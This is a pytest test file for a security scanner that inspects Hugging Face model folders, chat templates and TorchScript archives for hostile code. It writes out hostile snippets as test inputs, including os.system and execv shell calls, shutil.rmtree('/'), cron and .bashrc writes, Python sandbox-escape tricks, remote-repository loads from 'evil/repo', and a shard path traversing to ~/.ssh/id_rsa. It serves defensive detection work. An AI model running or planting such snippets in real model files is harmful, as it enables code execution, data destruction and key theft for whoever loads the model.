"""Hugging Face-style folders: configs that name code, that code, and chat templates."""

from __future__ import annotations

import io
import json
import textwrap
import zipfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bastion.models import Severity
from bastion.scan import Status
from bastion.scan.python import PythonScanner
from tests.scan.formats._util import assert_clean, assert_flagged, rules, scan, scan_bytes
from tests.scan.formats.templates import BENIGN, MALICIOUS

LLAMA_CONFIG = {
    "architectures": ["LlamaForCausalLM"],
    "model_type": "llama",
    "hidden_size": 4096,
    "num_attention_heads": 32,
    "rope_scaling": None,
    "torch_dtype": "bfloat16",
    "transformers_version": "4.44.0",
}


def write_json(tmp_path: Path, name: str, doc: object) -> Path:
    path = tmp_path / name
    path.write_text(json.dumps(doc, indent=2))
    return path


def test_plain_config_is_clean(tmp_path: Path) -> None:
    result = scan(write_json(tmp_path, "config.json", LLAMA_CONFIG))
    assert_clean(result)
    assert result.formats == ("json",)


def test_auto_map_lists_the_code_it_runs(tmp_path: Path) -> None:
    doc = {**LLAMA_CONFIG, "auto_map": {
        "AutoConfig": "configuration_phi.PhiConfig",
        "AutoModelForCausalLM": "modeling_phi.PhiForCausalLM",
        "AutoTokenizer": ["tokenization_x.XTokenizer", None],
    }}  # fmt: skip
    result = scan(write_json(tmp_path, "config.json", doc))
    assert_flagged(result, "hf.remote-code", Severity.MEDIUM)
    finding = result.findings[0]
    assert finding.details["files"] == [
        "configuration_phi.py",
        "modeling_phi.py",
        "tokenization_x.py",
    ]


def test_auto_map_into_another_repository_is_high(tmp_path: Path) -> None:
    doc = {**LLAMA_CONFIG, "auto_map": {"AutoModel": "evil/repo--modeling_x.Model"}}
    result = scan(write_json(tmp_path, "config.json", doc))
    assert_flagged(result, "hf.remote-code", Severity.HIGH)
    assert result.findings[0].details["repositories"] == ["evil/repo"]


def test_trust_remote_code_and_custom_pipelines(tmp_path: Path) -> None:
    pipeline = {"impl": "pipe.MyPipeline", "pt": ["AutoModel"]}
    doc = {"trust_remote_code": True, "custom_pipelines": {"my-task": pipeline}}
    result = scan(write_json(tmp_path, "config.json", doc))
    assert {"hf.trust-remote-code", "hf.remote-code"} <= rules(result)


@pytest.mark.parametrize("family", sorted(BENIGN))
def test_tokenizer_config_with_benign_template(tmp_path: Path, family: str) -> None:
    doc = {"bos_token": "<s>", "chat_template": BENIGN[family], "model_max_length": 4096}
    assert_clean(scan(write_json(tmp_path, "tokenizer_config.json", doc)))


@pytest.mark.parametrize("attack", ["cycler-globals-popen", "self-context", "include-file"])
def test_tokenizer_config_with_injected_template(tmp_path: Path, attack: str) -> None:
    doc = {"chat_template": [{"name": "default", "template": MALICIOUS[attack]}]}
    result = scan(write_json(tmp_path, "tokenizer_config.json", doc))
    assert_flagged(result, "chat-template.injection", Severity.HIGH)


def test_standalone_jinja_template(tmp_path: Path) -> None:
    (tmp_path / "chat_template.jinja").write_text(BENIGN["llama3.1-tools"])
    assert_clean(scan(tmp_path / "chat_template.jinja"))
    (tmp_path / "chat_template.jinja").write_text(MALICIOUS["lipsum-builtins"])
    assert_flagged(scan(tmp_path / "chat_template.jinja"), "chat-template.injection")


def test_jsonl_is_read_and_broken_json_is_an_error(tmp_path: Path) -> None:
    assert_clean(scan_bytes(tmp_path, b'{"a": 1}\n{"b": 2}\n', "data.jsonl"))
    assert scan_bytes(tmp_path, b'{"a": 1,,}', "config.json").status is Status.ERROR


BENIGN_MODELING = '''
"""Modeling code as remote-code repositories ship it."""
import math
from typing import Optional

import torch
from torch import nn


class Block(nn.Module):
    def __init__(self, config):
        super().__init__()
        self.proj = nn.Linear(config.hidden_size, config.hidden_size)
        self.act = getattr(nn, config.activation, nn.GELU)()
        self.scale = getattr(config, "scale", 1 / math.sqrt(config.hidden_size))

    def forward(self, x: torch.Tensor, mask: Optional[torch.Tensor] = None) -> torch.Tensor:
        with open(config.vocab_file, encoding="utf-8") as fh:
            fh.read()
        return self.act(self.proj(x)) * self.scale
'''


def test_benign_modeling_code_is_clean(tmp_path: Path) -> None:
    result = scan_bytes(tmp_path, BENIGN_MODELING.encode(), "modeling_x.py")
    assert_clean(result)
    assert result.formats == ("python",)


@pytest.mark.parametrize(
    ("snippet", "severity"),
    [
        ("import os\nos.system('id')", Severity.HIGH),
        ("import subprocess as sp\nsp.run(['id'])", Severity.HIGH),
        ("from os import system as s\ns('id')", Severity.HIGH),
        ("from os import execv\nexecv('/bin/sh', [])", Severity.HIGH),
        ("eval(input())", Severity.HIGH),
        ("import builtins\nbuiltins.exec('1')", Severity.HIGH),
        ("__import__('os').popen('id')", Severity.HIGH),
        ("import requests\nrequests.get('http://x')", Severity.HIGH),
        ("import urllib.request\nurllib.request.urlopen('http://x')", Severity.HIGH),
        ("open('/etc/cron.d/x', 'w').write('* * * * * sh')", Severity.MEDIUM),
        ("from pathlib import Path\nPath('~/.bashrc').write_text('x')", Severity.MEDIUM),
        ("import shutil\nshutil.rmtree('/')", Severity.MEDIUM),
        ("import pickle\npickle.loads(b'')", Severity.MEDIUM),
        ("import os\ngetattr(os, 'system')('id')", Severity.HIGH),
        ("import torch\ntorch.hub.load('evil/repo', 'model')", Severity.HIGH),
        ("f = (lambda: 0).__globals__['__builtins__']", Severity.HIGH),
        ("[c for c in ().__class__.__bases__[0].__subclasses__()]", Severity.HIGH),
        ("getattr(type(x), 'mro')", Severity.HIGH),
        (
            "from huggingface_hub import hf_hub_download\nhf_hub_download('a/b', 'c.py')",
            Severity.HIGH,
        ),
    ],
)
def test_dangerous_calls(tmp_path: Path, snippet: str, severity: Severity) -> None:
    source = BENIGN_MODELING + "\n\ndef setup():\n" + textwrap.indent(snippet, "    ") + "\n"
    # Code TorchScript runs on load carries the call's own severity ...
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zf:
        zf.writestr("archive/code/__torch__/modeling_x.py", source)
    assert_flagged(
        scan_bytes(tmp_path, archive.getvalue(), "model.pt"), "code.dangerous-call", severity
    )
    # ... a loose .py file runs only if a config names it: listed, at low severity.
    loose = scan_bytes(tmp_path, source.encode(), "modeling_x.py")
    assert [f.severity for f in loose.findings if f.rule == "code.dangerous-call"] == [Severity.LOW]


def test_evaluate_is_not_eval(tmp_path: Path) -> None:
    source = "def evaluate(x):\n    return x\n\nevaluate(1)\nmodel.eval()\n"
    assert_clean(scan_bytes(tmp_path, source.encode(), "train.py"))


@pytest.mark.parametrize(
    "head",
    [b"# Copyright\n\nimport torch\n", b"from x import y\n", b"class A(B):\n  pass\n",
     b"def forward(self):\n", b'"""Doc."""\nimport os\n', b"op_version_set = 8\n"],
)  # fmt: skip
def test_python_sniff(head: bytes) -> None:
    assert PythonScanner().sniff(head)


@pytest.mark.parametrize("head", [b"hello world\n", b"# title\n\nsome text", b"key = value\n"])
def test_python_sniff_rejects_text(head: bytes) -> None:
    assert not PythonScanner().sniff(head)


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=10),
    lambda inner: st.lists(inner, max_size=4)
    | st.dictionaries(
        st.sampled_from(["class_name", "config", "module", "registered_name", "auto_map",
                         "function", "function_type", "chat_template", "x", "__lambda__"]),
        inner, max_size=5),
    max_leaves=25,
)  # fmt: skip


@settings(
    max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(doc=st.dictionaries(st.text(max_size=5), json_values, max_size=4) | json_values)
def test_random_json_never_crashes(tmp_path: Path, doc: object) -> None:
    result = scan_bytes(tmp_path, json.dumps({"k": doc}).encode(), "config.json")
    assert result.status in (Status.CLEAN, Status.FINDINGS)


@settings(
    max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(body=st.text(alphabet="import os.()'\"=\n :abcdefgsytemvlx_[]", max_size=120))
def test_random_python_never_crashes(tmp_path: Path, body: str) -> None:
    result = scan_bytes(tmp_path, ("import os\n" + body).encode(), "x.py")
    assert result.status in (Status.CLEAN, Status.FINDINGS)


def test_shard_index_escaping_the_folder(tmp_path: Path) -> None:
    index = {"metadata": {"total_size": 8}, "weight_map": {
        "a.weight": "model-00001-of-00002.safetensors",
        "b.weight": "../../../home/user/.ssh/id_rsa",
    }}  # fmt: skip
    assert_flagged(
        scan(write_json(tmp_path, "model.safetensors.index.json", index)), "hf.path-traversal"
    )
    index["weight_map"]["b.weight"] = "model-00002-of-00002.safetensors"
    assert_clean(scan(write_json(tmp_path, "model.safetensors.index.json", index)))
